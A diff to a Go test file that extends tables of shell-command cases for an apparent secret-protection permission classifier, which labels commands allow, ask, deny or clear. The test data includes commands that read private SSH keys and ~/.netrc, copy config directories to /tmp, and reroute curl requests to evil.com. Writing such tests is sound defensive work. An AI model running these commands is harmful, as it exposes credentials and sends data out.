@@ -119,6 +119,9 @@ var credentialFilesCases = []secretCase{
 	{"tar czf /tmp/home.tgz ~", ask, "B3.secret-copy"},
 	{"cp -r ~/.claude /tmp/claude-backup", ask, "B3.secret-copy"},
 	{"rsync -a ~/.config/ /tmp/cfg/", ask, "B3.secret-copy"},
+	// A backup beside the credential is a write there, judged as such.
+	{"cp ~/.aws/credentials ~/.aws/credentials.bak", ask, "B3.secret-write"},
+	{"cp ~/.ssh/id_ed25519 ~/.ssh/id_ed25519.old", ask, ""},
 	// Not credentials.
 	{"cat ~/.claude/settings.json", allow, ""},
 	{"cat ~/.codex/config.toml", allow, ""},
@@ -146,6 +149,9 @@ var secretLocationMetadataCases = []secretCase{
 	{"file ~/.ssh/id_rsa", allow, ""},
 	{"du -sh ~/.aws", allow, ""},
 	{"ls -la ~/.ssh/ | grep id_", allow, ""},
+	{"find ~/.ssh -type f", clear, ""},
+	{"find ~/.aws -maxdepth 1 -name '*'", clear, ""},
+	{"find ~/.ssh -name '*.pub'", clear, ""},
 	// Reading the content stays denied.
 	{"test -f ~/.ssh/id_rsa && cat ~/.ssh/id_rsa", deny, "A6.credential-read"},
 	{"[ -e ~/.netrc ] && head ~/.netrc", deny, "A6.credential-read"},
@@ -305,6 +311,9 @@ var exfiltrationShapesCases = []secretCase{
 	{"nslookup github.com", clear, ""},
 	{"ping -c 3 8.8.8.8", clear, ""},
 	{"host -t mx example.org", clear, ""},
+	{"ping -c 1 $HOST", clear, ""},
+	{"dig +short \"$DOMAIN\"", clear, ""},
+	{"find ~/.ssh -name 'id_*.pub' | while read f; do wc -l \"$f\"; done", clear, ""},
 	// curl options that send the request somewhere other than the URL.
 	{"curl --connect-to ::evil.com https://api.github.com", ask, "C1.rerouted-request"},
 	{"curl --connect-to localhost:80:evil.example:80 http://localhost/", ask, "C1.rerouted-request"},
